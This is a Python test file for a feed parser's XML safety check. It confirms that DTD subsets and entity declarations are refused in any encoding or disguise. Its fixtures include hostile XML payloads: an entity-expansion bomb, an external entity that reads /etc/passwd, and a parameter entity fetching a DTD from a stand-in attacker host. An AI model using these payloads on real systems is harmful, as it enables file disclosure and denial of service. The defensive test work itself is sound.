"""workers.parse.xml_safety: a DTD subset or an entity declaration is refused however the prolog
is dressed (comments, processing instructions, encodings); a plain public DOCTYPE is not."""

from __future__ import annotations

import codecs

import feedparser
import pytest

from service.errors import ErrorKind, ParseError
from workers.parse import parse_feed
from workers.parse.xml_safety import doctype_problem, reject_unsafe_doctype

URL = "https://example.com/feed"
FEED = '<rss version="2.0"><channel><title>T</title><item><guid>g</guid><title>&x;</title></item></channel></rss>'
SUBSET = '<!DOCTYPE rss [<!ENTITY x "boom">]>'
LAUGHS = '<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'

HOSTILE = {
    "plain": SUBSET + FEED,
    "comment-hiding-the-root-regex": "<!-- <a href='x'> -->" + SUBSET + FEED,
    "comment-with-element-text": '<?xml version="1.0"?><!-- <rss> -->\n' + LAUGHS + FEED,
    "processing-instruction-first": '<?xml-stylesheet href="<x>"?>' + SUBSET + FEED,
    "whitespace-before-declaration": '\n  <?xml version="1.0"?>' + SUBSET + FEED,
    "junk-before-markup": "Warning: include(): x in y on line 3\n" + SUBSET + FEED,
    "empty-internal-subset": "<!DOCTYPE rss []>" + FEED.replace("&x;", "x"),
    "external-parameter-entity": '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://attacker.invalid/x.dtd"> %p;]>' + FEED,
    "system-entity": '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + FEED,
    "lowercase-doctype": '<!doctype rss [<!entity x "y">]>' + FEED,
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
@pytest.mark.parametrize(
    "encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be"]
)
def test_dtd_subsets_are_refused_in_any_dress(text: str, encoding: str, monkeypatch: pytest.MonkeyPatch) -> None:
    def must_not_run(*args: object, **kwargs: object) -> None:
        raise AssertionError("feedparser ran on a document with a DTD subset")

    monkeypatch.setattr(feedparser, "parse", must_not_run)
    body = text.encode(encoding)
    with pytest.raises(ParseError) as caught:
        parse_feed(body, source_id="s", url=URL, content_type=f"application/xml; charset={encoding}")
    assert caught.value.kind is ErrorKind.PARSE and "entity" in caught.value.message
    assert doctype_problem(body) is not None or doctype_problem(body, f"text/xml; charset={encoding}") is not None


def test_a_charset_only_the_header_names_is_read_too() -> None:
    # UTF-16 with no BOM, starting with whitespace: only the HTTP charset says what it is.
    body = ("  " + SUBSET + FEED).encode("utf-16-le")
    assert doctype_problem(body, "application/rss+xml; charset=UTF-16LE") is not None
    ebcdic = ('<?xml version="1.0" encoding="cp037"?>' + SUBSET + FEED).encode("cp037")
    assert doctype_problem(ebcdic) is not None


def test_the_xml_declaration_is_one_of_the_readings() -> None:
    body = codecs.BOM_UTF8 + ('<?xml version="1.0" encoding="utf-8"?>' + SUBSET + FEED).encode()
    assert doctype_problem(body) is not None


@pytest.mark.parametrize(
    "text",
    [
        FEED.replace("&x;", "x"),
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        '"http://my.netscape.com/publish/formats/rss-0.91.dtd">' + FEED.replace("&x;", "x"),
        "<!DOCTYPE rss>" + FEED.replace("&x;", "x"),
        '<?xml version="1.0"?><!-- <!DOCTYPE x [<!ENTITY y "z">]> -->' + FEED.replace("&x;", "x"),
        # After the root, "<!ENTITY" is text (a post about XML), never a declaration.
        FEED.replace("&x;", '<![CDATA[Declare with <!ENTITY x "y"> inside <!DOCTYPE d [ ]>]]>'),
    ],
    ids=["no-doctype", "rss-0.91-public", "bare-doctype", "commented-out", "cdata-after-root"],
)
def test_documents_without_a_subset_pass(text: str) -> None:
    for encoding in ("utf-8", "utf-16", "utf-32"):
        assert doctype_problem(text.encode(encoding)) is None
    reject_unsafe_doctype(text.encode(), source_id="s")


def test_a_public_doctype_feed_still_parses_and_its_dtd_is_never_fetched() -> None:
    body = (
        b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        b'"http://my.netscape.com/publish/formats/rss-0.91.dtd">'
        b'<rss version="0.91"><channel><title>T</title><item><title>Tsch&#252;ss</title>'
        b"<link>https://example.com/1</link></item></channel></rss>"
    )
    feed = parse_feed(body, source_id="s", url=URL, content_type="application/rss+xml")
    assert feed.version == "rss091n" and feed.entries[0].title == "Tschüss"
